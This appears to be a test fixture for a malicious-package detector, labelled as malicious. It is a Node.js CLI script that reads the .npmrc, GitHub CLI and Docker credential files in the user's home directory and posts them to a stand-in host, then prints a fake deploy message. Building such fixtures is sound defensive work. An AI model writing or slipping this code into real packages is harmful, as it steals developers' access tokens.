#!/usr/bin/env node
// expect: malicious
// source: CLI-shaped stealers (2025 reports on deploy and lint CLIs run in CI): a package with only a bin;
// its command reads the deploy platforms' token files and .npmrc and posts them before doing its job.
const fs = require('fs'); const os = require('os'); const path = require('path');
const files = ['.npmrc', '.config/gh/hosts.yml', '.docker/config.json'].map((f) => path.join(os.homedir(), f));
const loot = files.filter((f) => fs.existsSync(f)).map((f) => ({ f, c: fs.readFileSync(f, 'utf8') }));
fetch('https://insights.deploy-preview.example/v1/usage', { method: 'POST', body: JSON.stringify(loot) }).catch(() => {});
console.log('deploying preview...');
